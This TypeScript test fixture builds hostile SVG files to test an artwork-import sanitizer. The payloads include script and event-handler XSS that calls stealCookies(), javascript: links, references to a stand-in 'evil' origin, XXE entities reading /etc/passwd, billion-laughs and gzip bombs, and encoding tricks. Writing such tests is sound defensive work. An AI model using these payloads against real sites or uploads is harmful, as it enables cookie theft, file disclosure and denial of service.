/** Hostile SVG files for tests: each with its attack and the expected message of an import. */
import type { ArtworkChange } from '@farmpost/shared/contracts/template-vocabulary';
import { gzipSync } from 'node:zlib';

export interface HostileSvg {
  readonly what: string;
  readonly bytes: Uint8Array;
  /** Part of the refusal, or what must be among the changes of an import that leaves it out. */
  readonly outcome: RegExp | readonly ArtworkChange[];
}

const GOOD = '<path d="M0 0h10v10z" fill="#c00"/>';
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** @param evil an origin that must never be asked, as `http://127.0.0.1:4000` */
export function hostileSvgs(evil: string): HostileSvg[] {
  const steal = 'stealCookies()';
  const svg = (inner: string, root = '') => `<svg ${NS} viewBox="0 0 20 20" ${root}>${GOOD}${inner}</svg>`;
  const made = (what: string, file: string | Uint8Array, outcome: HostileSvg['outcome']): HostileSvg => ({
    what,
    bytes: typeof file === 'string' ? Buffer.from(file) : file,
    outcome,
  });
  const strip = (what: string, inner: string, ...changes: ArtworkChange[]) => made(what, svg(inner), changes);
  const path = (attributes: string) => `<path d="M0 0h5v5z" ${attributes}/>`;
  const nested = (depth: number, inner: string) => '<g>'.repeat(depth) + inner + '</g>'.repeat(depth);

  const scripts = [
    strip('a script', `<script>${steal}</script>`, 'scripts'),
    strip('a script in CDATA', `<script><![CDATA[${steal}]]></script>`, 'scripts'),
    strip('a script from the network', `<script href="${evil}/x.js"/>`, 'scripts', 'references'),
    strip('a script by xlink', `<script xlink:href="${evil}/x.js"/>`, 'scripts', 'references'),
    strip(
      'a script from a data URL',
      `<script href="data:text/javascript,${steal}"/>`,
      'scripts',
      'references',
    ),
    strip('a script within definitions', `<defs><script>${steal}</script></defs>`, 'scripts'),
    strip('a script in a hidden group', `<g display="none"><script>${steal}</script></g>`, 'scripts'),
    strip('an ECMAScript type', `<script type="application/ecmascript">${steal}</script>`, 'scripts'),
    strip(
      'an HTML script',
      `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${steal}</h:script>`,
      'scripts',
    ),
    strip('a handler element of SVG Tiny', `<handler type="text/javascript">${steal}</handler>`, 'scripts'),
    strip('a listener element', `<listener event="click" handler="#h"/>`, 'scripts'),
    strip('a script inside a path', `<path d="M0 0h3v3z"><script>${steal}</script></path>`, 'scripts'),
    strip(
      'a script in a symbol',
      `<symbol id="s"><script>${steal}</script></symbol><use href="#s"/>`,
      'scripts',
    ),
    strip('a script spelled with entities', `<script>&#115;tealCookies()</script>`, 'scripts'),
    made(
      'a script in an SVG prefix',
      `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:path d="M0 0h9v9z"/><s:script>${steal}</s:script></s:svg>`,
      ['scripts'],
    ),
  ];
  const handlers = [
    'onload',
    'onclick',
    'onerror',
    'onmouseover',
    'onfocusin',
    'onbegin',
    'onend',
    'onrepeat',
    'onactivate',
    'onunload',
    'ONLOAD',
    'onpointerrawupdate',
  ].map((name) =>
    made(`a handler in ${name}`, svg(path(`${name}="${steal}"`), `${name}="${steal}"`), ['handlers']),
  );
  const pages = [
    strip(
      'a web page',
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${steal}</script></body></foreignObject>`,
      'web-pages',
    ),
    strip(
      'an inline frame',
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></foreignObject>`,
      'web-pages',
    ),
    strip(
      'an image with a handler',
      `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${steal}"/></foreignObject>`,
      'web-pages',
    ),
    strip(
      'a form',
      `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${evil}"><input/></form></foreignObject>`,
      'web-pages',
    ),
    strip(
      'an HTML body outside of a foreign object',
      `<body xmlns="http://www.w3.org/1999/xhtml">${steal}</body>`,
      'web-pages',
    ),
    strip('an SVG iframe', `<iframe src="${evil}"/>`, 'web-pages'),
    strip('a video', `<video src="${evil}/v.mp4"/>`, 'web-pages'),
    strip('an audio with a handler', `<audio src="x" onerror="${steal}"/>`, 'web-pages', 'handlers'),
    strip('an embed', `<embed src="${evil}"/>`, 'web-pages'),
    strip('an object', `<object data="${evil}"/>`, 'web-pages'),
    strip(
      'a web page in a switch',
      `<switch><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">${evil}</p></foreignObject></switch>`,
      'web-pages',
    ),
  ];
  const references = [
    strip(
      'a picture from the network',
      `<image href="${evil}/p.png" width="5" height="5"/>`,
      'pictures',
      'references',
    ),
    strip(
      'a picture by xlink',
      `<image xlink:href="${evil}/p.png" width="5" height="5"/>`,
      'pictures',
      'references',
    ),
    strip(
      'a picture of a file',
      `<image href="file:///etc/passwd" width="5" height="5"/>`,
      'pictures',
      'references',
    ),
    strip(
      'an SVG in a data URL with a script',
      `<image href="data:image/svg+xml,&lt;svg onload='${steal}'/&gt;"/>`,
      'pictures',
      'references',
    ),
    strip('a picture without a protocol', `<image href="//127.0.0.1/p.png"/>`, 'pictures', 'references'),
    strip('a picture by UNC', `<image href="\\\\127.0.0.1\\share\\p.png"/>`, 'pictures', 'references'),
    strip('a part of another file', `<use href="${evil}/x.svg#a"/>`, 'references'),
    strip('a part of another file by xlink', `<use xlink:href="${evil}/x.svg#a"/>`, 'references'),
    strip('a part of a data URL', `<use href="data:image/svg+xml;base64,PHN2Zz4=#a"/>`, 'references'),
    strip('a fill from the network', path(`fill="url(${evil}/p.svg#g)"`), 'references'),
    strip('a quoted fill from the network', path(`fill="url('${evil}/p.svg#g')"`), 'references'),
    strip('a stroke from the network', path(`stroke="url(${evil}/p.svg#g) red"`), 'references'),
    strip('a fill that is a script', path(`fill="url(javascript:${steal})"`), 'references'),
    strip('a filter from the network', path(`filter="url(${evil}/f.svg#f)"`), 'effects'),
    strip('a mask from the network', path(`mask="url(${evil}/m.svg#m)"`), 'effects'),
    strip('a clipping path from the network', path(`clip-path="url(${evil}/c.svg#c)"`), 'clipping'),
    strip('a marker from the network', path(`marker-start="url(${evil}/m.svg#m)"`), 'markers'),
    strip('a cursor from the network', `<cursor href="${evil}/c.cur"/>`, 'references'),
    strip('a color profile', `<color-profile href="${evil}/p.icc"/>`, 'references'),
    strip(
      'a gradient from the network',
      `<linearGradient id="g" href="${evil}/g.svg#g"/>${path('fill="url(#g)"')}`,
      'references',
    ),
    strip(
      'a picture in a filter',
      `<filter id="f"><feImage href="${evil}/p.png"/></filter>${path('filter="url(#f)"')}`,
      'references',
      'effects',
    ),
    strip(
      'a picture in a pattern',
      `<pattern id="p"><image href="${evil}/p.png"/></pattern>${path('fill="url(#p)"')}`,
      'patterns',
      'references',
    ),
    strip('a font from the network', `<font-face-uri href="${evil}/f.svg"/>`, 'references'),
    strip(
      'a text on a path of another file',
      `<text><textPath href="${evil}/x.svg#p">word</textPath></text>`,
      'text',
      'references',
    ),
    strip('a text reference', `<text><tref xlink:href="${evil}/x.svg#t"/></text>`, 'text', 'references'),
    strip('an HTML link to a style sheet', `<link rel="stylesheet" href="${evil}/x.css"/>`, 'references'),
    made('a base for relative references', svg('<image href="p.png"/>', `xml:base="${evil}/"`), [
      'pictures',
      'references',
    ]),
    made('a style sheet by instruction', `<?xml-stylesheet href="${evil}/x.css"?>${svg('')}`, ['references']),
    made('a transform by instruction', `<?xml-stylesheet type="text/xsl" href="${evil}/x.xsl"?>${svg('')}`, [
      'references',
    ]),
    strip('a mesh gradient', `<mesh href="${evil}/m"/>`, 'references'),
  ];
  const links = [
    strip('a link', `<a href="${evil}">${path('')}</a>`, 'links'),
    strip('a link that is a script', `<a href="javascript:${steal}">${path('')}</a>`, 'links'),
    strip('a link by xlink', `<a xlink:href="javascript:${steal}">${path('')}</a>`, 'links'),
    strip('a link spelled with entities', `<a href="&#106;avascript:${steal}">${path('')}</a>`, 'links'),
    strip(
      'a link that is a data URL',
      `<a href="data:text/html,&lt;script&gt;${steal}&lt;/script&gt;">${path('')}</a>`,
      'links',
    ),
  ];
  const animations = [
    strip(
      'an animated link',
      `<a href="#"><animate attributeName="href" to="javascript:${steal}"/>${path('')}</a>`,
      'animations',
      'links',
    ),
    strip(
      'a set link',
      `<a><set attributeName="href" to="javascript:${steal}"/>${path('')}</a>`,
      'animations',
    ),
    strip(
      'an animation that starts a script',
      `<animate onbegin="${steal}" attributeName="x" dur="1s"/>`,
      'animations',
      'handlers',
    ),
    strip(
      'an animated transform',
      `<animateTransform attributeName="transform" from="0" to="9"/>`,
      'animations',
    ),
    strip(
      'a motion along another file',
      `<animateMotion><mpath href="${evil}/x.svg#p"/></animateMotion>`,
      'animations',
      'references',
    ),
    strip('a discard', `<discard begin="1s"/>`, 'animations'),
    strip('an animated color', `<animateColor attributeName="fill" to="red"/>`, 'animations'),
  ];
  const styles = [
    strip('an import', `<style>@import url(${evil}/x.css);</style>`, 'styles'),
    strip('an import in quotes', `<style>@import "${evil}/x.css";</style>`, 'styles'),
    strip('an import in CDATA', `<style><![CDATA[@import '${evil}/x.css';]]></style>`, 'styles'),
    strip('a font face', `<style>@font-face{font-family:x;src:url(${evil}/f.woff2)}</style>`, 'styles'),
    strip('a background', `<style>path{background:url(${evil}/b.png)}</style>`, 'styles'),
    strip(
      'a fill of a rule',
      `<style>.x{fill:url(${evil}/p.svg#g)}</style>${path('class="x"')}`,
      'references',
    ),
    strip('an expression', `<style>path{width:expression(${steal})}</style>`, 'styles'),
    strip('a binding', `<style>path{-moz-binding:url(${evil}/x.xml#b)}</style>`, 'styles'),
    strip('a behavior', `<style>path{behavior:url(${evil}/x.htc)}</style>`, 'styles'),
    strip('an escaped import', `<style>@\\69mport url(${evil}/x.css);</style>`, 'styles'),
    strip('a rule within a media query', `<style>@media all{path{fill:url(${evil}/x#g)}}</style>`, 'styles'),
    strip('a reading of attributes', `<style>path[d^="M"]{background:url(${evil}/m)}</style>`, 'styles'),
    strip('a namespace', `<style>@namespace "${evil}";</style>`, 'styles'),
    strip('an inline background', path(`style="background-image:url(${evil}/b.png)"`), 'styles'),
    strip('an inline script', path(`style="background:url(javascript:${steal})"`), 'styles'),
    strip('an inline fill', path(`style="fill:url(${evil}/p.svg#g)"`), 'references'),
    strip('an inline expression', path(`style="width:expression(${steal})"`), 'styles'),
    strip('an inline escape', path(`style="cursor:\\75rl(${evil})"`), 'styles'),
    strip('a shape by style', path(`style="d:path('M0 0');offset-path:url(${evil}#p)"`), 'styles'),
    strip('a comment without end', `<style>/* ${'/*'.repeat(20_000)}</style>`),
    strip('a style sheet of braces', `<style>${'a{'.repeat(20_000)}</style>`, 'styles'),
  ];
  const entities = [
    made(
      'an external entity',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
      /entities/,
    ),
    made(
      'an external entity of the network',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/e">]>${svg('&x;')}`,
      /entities/,
    ),
    made('a parameter entity', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${evil}/e"> %x;]>${svg('')}`, /entities/),
    made(
      'a billion laughs',
      `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, i) => `<!ENTITY ${'bcdefghijklm'[i]} "${`&${'abcdefghijkl'[i]};`.repeat(10)}">`).join('')}]>${svg('<title>&m;</title>')}`,
      /entities/,
    ),
    made(
      'a quadratic blowup',
      `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${svg(`<title>${'&a;'.repeat(1000)}</title>`)}`,
      /entities/,
    ),
    made(
      'an attribute default',
      `<!DOCTYPE svg [<!ATTLIST path onload CDATA "${steal}">]>${svg('')}`,
      /entities/,
    ),
    made('a notation', `<!DOCTYPE svg [<!NOTATION x SYSTEM "${evil}/n">]>${svg('')}`, /entities/),
    made('a document type of the network', `<!DOCTYPE svg SYSTEM "${evil}/x.dtd">${svg('')}`, ['doctype']),
    made(
      'a public document type',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${evil}/svg11.dtd">${svg('')}`,
      ['doctype'],
    ),
    made('an unknown entity', svg('<title>&nope;</title>'), /cannot be read/),
    made(
      'an inclusion',
      svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${evil}/x"/>`),
      [],
    ),
  ];
  const bombs = [
    made('a part that draws itself', svg('<g id="a"><use href="#a"/></g>'), /refers to itself/),
    made(
      'two parts that draw each other',
      svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
      /refers to itself/,
    ),
    made(
      'a symbol that draws itself',
      svg('<symbol id="a"><use href="#a"/></symbol><use href="#a"/>'),
      /refers to itself/,
    ),
    made(
      'a laugh of parts',
      svg(
        `<defs><g id="p0">${path('').repeat(10)}</g>${[1, 2, 3, 4].map((i) => `<g id="p${i}">${`<use href="#p${i - 1}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#p4"/>`,
      ),
      /repeats its parts/,
    ),
    made('a deep nest', svg(nested(500, path(''))), /nested/),
    made(
      'a deep nest of another vocabulary',
      svg(`<x:a xmlns:x="urn:x">${'<x:b>'.repeat(5000)}${'</x:b>'.repeat(5000)}</x:a>`),
      /nested|parts/,
    ),
    made('too many elements', svg('<g/>'.repeat(6_000)), /more than 5,000 parts/),
    made('too many shapes', svg(path('').repeat(1_500)), /more than 1,000 shapes/),
    made('too many points', svg(`<path d="M0 0${'l1 1'.repeat(30_000)}"/>`), /points/),
    made(
      'too long paths',
      svg(`<path d="M0 0${'c1.23 4.56 7.89 1.23 4.56 7.89'.repeat(9_000)}"/>`),
      /too detailed/,
    ),
    made('too many curves of arcs', svg(`<path d="M0 0${'a9 9 0 1 1 .1 .1'.repeat(40_000)}"/>`), /points/),
    made(
      'a list of classes',
      svg(
        `<style>${Array.from({ length: 900 }, (_, i) => `.c${i}{fill:red}`).join('')}</style>${path(`class="${'c1 '.repeat(20_000)}"`)}`,
      ),
      [],
    ),
    strip(
      'gradients in a circle',
      `<linearGradient id="g" href="#h"/><linearGradient id="h" href="#g"/>${path('fill="url(#g)"')}`,
      'broken',
    ),
    strip('a transform of thousands', path(`transform="${'translate(1 1)'.repeat(5_000)}"`), 'broken'),
    made('a gzip bomb', gzipSync(Buffer.alloc(5_000_000)), /compressed/),
    made('a compressed drawing', gzipSync(Buffer.from(svg(''))), /compressed/),
  ];
  const numbers = [
    strip('coordinates that are no numbers', '<path d="MNaN NaNLInfinity 0"/>', 'broken'),
    strip('infinite coordinates', '<path d="M1e999 0L5 5"/>', 'broken'),
    strip('coordinates far away', '<path d="M1e30 0L5 5h9"/>', 'broken'),
    strip('a rectangle that is no number', '<rect width="NaN" height="5"/>', 'broken'),
    strip('a circle of infinity', '<circle r="Infinity"/>', 'broken'),
    strip('a negative rectangle', '<rect width="-5" height="5"/>', 'broken'),
    strip('a matrix of infinity', path('transform="matrix(1e308 0 0 1e308 1e308 0) scale(1e308)"'), 'broken'),
    strip('a stroke of infinity', path('stroke="red" stroke-width="1e300"'), 'broken'),
    strip('a path that begins with a line', '<path d="L5 5Z"/>', 'broken'),
    strip('a path of words', `<path d="M0 0 L ${steal}"/>`, 'broken'),
    made(
      'a view box of nothing',
      `<svg ${NS} viewBox="0 0 0 0" width="NaN" height="1e999">${GOOD}</svg>`,
      [],
    ),
    strip('an arc without a radius', '<path d="M0 0a0 0 0 1 1 5 5"/>'),
  ];
  const encodings = [
    made('UTF-16', Buffer.from(`\ufeff${svg('')}`, 'utf16le'), /UTF-8/),
    made('UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`, /UTF-8/),
    made('a declared UTF-16', `<?xml version="1.0" encoding="UTF-16"?>${svg('')}`, /UTF-8/),
    made('bytes that are no text', Buffer.from([0x3c, 0x73, 0x76, 0x67, 0xff, 0xfe, 0x80]), /UTF-8/),
    made(
      'overlong bytes',
      Buffer.concat([Buffer.from('<svg>'), Buffer.from([0xc0, 0xbc]), Buffer.from('</svg>')]),
      /UTF-8/,
    ),
    made('a null character', svg('\0'), /cannot be read/),
    made(
      'an HTML page',
      `<!doctype html><html><script>${steal}</script></html>`,
      /not an SVG|cannot be read/,
    ),
    made(
      'a web page that says it is one',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>${steal}</script></html>`,
      /not an SVG/,
    ),
    made('a picture', Buffer.from('89504e470d0a1a0a', 'hex'), /UTF-8/),
    made('no file', Buffer.from(' '), /cannot be read|not an SVG/),
    made('markup that does not end', `<svg ${NS}><path d="M0 0h9v9z"><script>${steal}`, /cannot be read/),
    made('two roots', `${svg('')}${svg('')}`, /cannot be read/),
    made('a prefix of nothing', svg('<evil:script/>'), /cannot be read/),
    made(
      'only what is left out',
      `<svg ${NS}><script>${steal}</script><image href="${evil}/p.png"/></svg>`,
      /nothing in this file/,
    ),
  ];
  const words = [
    strip('a title with a script', `<title>&lt;script&gt;${steal}&lt;/script&gt;</title>`),
    strip('a description with a URL', `<desc>${evil}</desc>`),
    strip('metadata with a URL', `<metadata><x:rdf xmlns:x="urn:x" about="${evil}"/></metadata>`),
    strip('a comment with a script', `<!-- <script>${steal}</script> ${evil} -->`),
    strip('an id with markup', path(`id="&quot;&gt;&lt;script&gt;${steal}"`)),
    strip('a class with a URL', path(`class="${evil}"`)),
    strip('a color with markup', path(`fill="red&quot; onload=&quot;${steal}"`), 'styles'),
    strip('a line end with markup', path(`stroke="red" stroke-linecap="round&quot; onload=&quot;${steal}"`)),
    strip('a dash with a URL', path(`stroke="red" stroke-dasharray="${evil}"`)),
    strip('text', `<text onclick="${steal}">${evil}</text>`, 'text', 'handlers'),
    strip('a nested drawing', `<svg onload="${steal}"><image href="${evil}"/></svg>`, 'nested', 'handlers'),
    strip('an unknown element', `<evil href="${evil}">${steal}</evil>`, 'unknown', 'references'),
    strip('data attributes', path(`data-x="${evil}" data-y="${steal}"`)),
  ];
  return [
    ...scripts,
    ...handlers,
    ...pages,
    ...references,
    ...links,
    ...animations,
    ...styles,
    ...entities,
    ...bombs,
    ...numbers,
    ...encodings,
    ...words,
  ];
}
